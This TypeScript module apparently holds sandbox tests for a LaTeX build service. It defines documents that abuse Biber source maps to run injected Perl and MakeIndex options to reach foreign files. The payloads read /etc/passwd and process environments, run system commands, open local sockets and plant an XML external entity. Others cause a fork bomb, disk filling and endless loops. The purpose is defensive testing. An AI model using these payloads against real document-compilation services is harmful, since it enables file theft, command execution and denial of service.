/**
 * Documents that attack through the helpers between TeX's passes. Biber evaluates the replacement of a source map as
 * Perl, so a document can contain a program: only the box restrains it.
 */
import { type Attack, type AttackKind, byDocument, type Place, wrap } from './attack.ts';

const database = [{ name: 'refs.bib', bytes: Buffer.from('@book{k, author={A}, title={T}, year=2000}\n') }];

/** @param perl one line; TeX takes the spaces away, so that they are written \x20. */
const byPerl = (
  kind: AttackKind,
  what: string,
  perl: string | ((place: Place) => string),
  cpuMs?: number,
): Attack =>
  byDocument(
    kind,
    `Biber: ${what}`,
    (place) =>
      wrap(
        '\\cite{k}\\printbibliography',
        String.raw`\usepackage[backend=biber]{biblatex}
\DeclareSourcemap{\maps[datatype=bibtex]{\map{\step[fieldsource=title,match=\regexp{.+},replace=\regexp{@{[eval(qq(${typeof perl === 'string' ? perl : perl(place)}))]}}]}}}
\addbibresource{refs.bib}
`,
      ),
    { assets: database, ...(cpuMs && { cpuMs }) },
  );
const all = (paths: string[]) =>
  String.raw`local\x20\@ARGV=qw(${paths.join(String.raw`\x20`)});readline(*ARGV)`;
const connect = (socket: string) =>
  String.raw`require\x20IO::Socket::INET;require\x20IO::Socket::UNIX;${socket};readline(\$s)`;

export const attacksByHelpers: readonly Attack[] = [
  byPerl('read', 'a file read by a source map', all(['@/canary.txt'])),
  byPerl(
    'read',
    'the list of users and the environment',
    all(['/etc/passwd', '/proc/self/environ', '/proc/1/environ']),
  ),
  byDocument(
    'read',
    'Biber: a database by its path',
    wrap(
      '\\nocite{*}\\printbibliography',
      '\\usepackage[backend=biber]{biblatex}\\addbibresource{@/canary.txt}\n',
    ),
    { assets: database },
  ),
  byDocument(
    'read',
    'Biber: a control file of one’s own that names a foreign file',
    wrap(
      String.raw`\newwrite\w\immediate\openout\w=main.bcf
\immediate\write\w{<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://@/canary.txt">]><bcf:controlfile version="3.8" xmlns:bcf="https://sourceforge.net/projects/biblatex"><bcf:section number="0"><bcf:citekey order="1">&e;</bcf:citekey></bcf:section><bcf:bibdata section="0"><bcf:datasource type="file" datatype="bibtex">refs.bib</bcf:datasource><bcf:datasource type="file" datatype="bibtex" glob="true">@/*</bcf:datasource></bcf:bibdata></bcf:controlfile>}
\immediate\closeout\w\IfFileExists{main.bbl}{\input{main.bbl}}{}`,
    ),
    { assets: database },
  ),
  byPerl(
    'run',
    'programs started by a source map',
    String.raw`system(qw(/bin/cp\x20@/canary.txt\x20@drop/ran));system(qw(/usr/bin/env));qx(cat\x20@/canary.txt)`,
  ),
  byPerl(
    'run',
    'files written by a source map',
    String.raw`open(F,q(>@drop/written));print\x20F\x201;close(F);symlink(q(@/canary.txt),q(main.bbl));1`,
  ),
  byPerl('reach', 'connections made by a source map', ({ port, socket }) =>
    connect(`\\$s=IO::Socket::INET->new(q(127.0.0.1:${port}))||IO::Socket::UNIX->new(q(${socket}))`),
  ),
  byDocument(
    'reach',
    'Biber: a database at an address',
    ({ port }) =>
      wrap(
        '\\nocite{*}\\printbibliography',
        `\\usepackage[backend=biber]{biblatex}\\addbibresource[location=remote]{http://127.0.0.1:${port}/x.bib}\n`,
      ),
    { assets: database },
  ),
  byPerl('exhaust', 'a source map that never ends', '1while(1)', 6_000),
  byPerl('exhaust', 'a source map that takes all memory', String.raw`while(1){push(\@x,q(x)x1e7)}`, 6_000),
  byPerl(
    'exhaust',
    'a source map that fills the disk',
    String.raw`for\x20\$n(1..1e6){open(F,qq(>f\$n));print\x20F\x20q(x)x1e7;close(F)}`,
    6_000,
  ),
  byPerl('exhaust', 'a source map that forks without end', '1while(fork()+1)', 6_000),
  byPerl(
    'exhaust',
    'folders in folders, deeper than a path may be long',
    'for(1..300){mkdir(q(d)x250);chdir(q(d)x250)}',
    6_000,
  ),
  byDocument(
    'read',
    'MakeIndex: a style and a log by their paths',
    wrap(
      'x\\index{x}\\printindex',
      '\\usepackage{imakeidx}\\makeindex[options=-s @/canary.txt -t @drop/log -o @drop/ind]\n',
    ),
  ),
];
